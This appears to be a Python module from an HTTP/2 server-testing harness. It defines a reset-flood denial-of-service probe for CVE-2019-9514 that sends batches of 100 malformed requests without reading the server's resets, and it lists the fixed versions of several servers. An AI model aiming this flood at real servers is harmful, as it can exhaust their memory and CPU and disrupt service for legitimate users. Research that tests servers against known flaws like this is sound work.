"""Reset flood (CVE-2019-9514): requests the server must refuse stream by stream (an upper-case field
name makes a request malformed: RFC 9113 sections 8.2.1 and 8.1.1), never reading the RST_STREAM frames,
so a server that queues them grows its send queue. It sends for twice the other probes' time: x/net's 2019 fix ends a
connection at 10,000 queued frames, which the fixed control reached about once in 3 s, or not at all (load 23); in
6 s it keeps that bound but slows the legitimate client past 2 s as the vulnerable build does (the frames' CPU, which
the fix does not bound), so the pair does not separate and the probe is out of the grid."""
from h2grid.attacks.base import SECONDS, Attack, Fix
from h2grid.attacks.hpackraw import literal, request

STREAMS = 100

ATTACK_FIELD = literal(b"X-Upper-Case", b"1")


def batch(conn) -> bytes:
    block = request(conn) + ATTACK_FIELD
    return b"".join(conn.headers(conn.stream_id(), block) for _ in range(STREAMS))


def exercised(sent: dict) -> str:
    """A stream error of the server's own (RST_STREAM): the reset queue is the path; a connection error is not it."""
    if sum(sent["rst_codes"].values()):
        return ""
    return ("the server reset no stream" + (f" (it ended the connection: GOAWAY {', '.join(sent['goaway'])})"
                                            if sent["goaway"] else ""))


ATTACK = Attack(
    key="reset-flood", title="Reset flood", cve="CVE-2019-9514", rfc="RFC 9113 sections 8.1.1 and 8.2.1 (malformed requests)",
    sends=f"malformed requests (an upper-case field name), {STREAMS} streams per write, never reading the resets",
    batch=batch, reads=False, exercised=exercised, seconds=2 * SECONDS,
    fixes=(Fix("twisted", "19.7.0", "buffered control frames bounded (twisted#9694)"),
           Fix("go", "go1.12.8", "the control-frame queue bound closes the connection (CVE-2019-9514, golang/go#33606)"),
           Fix("hypercorn", "", "no limit of its own")),
)
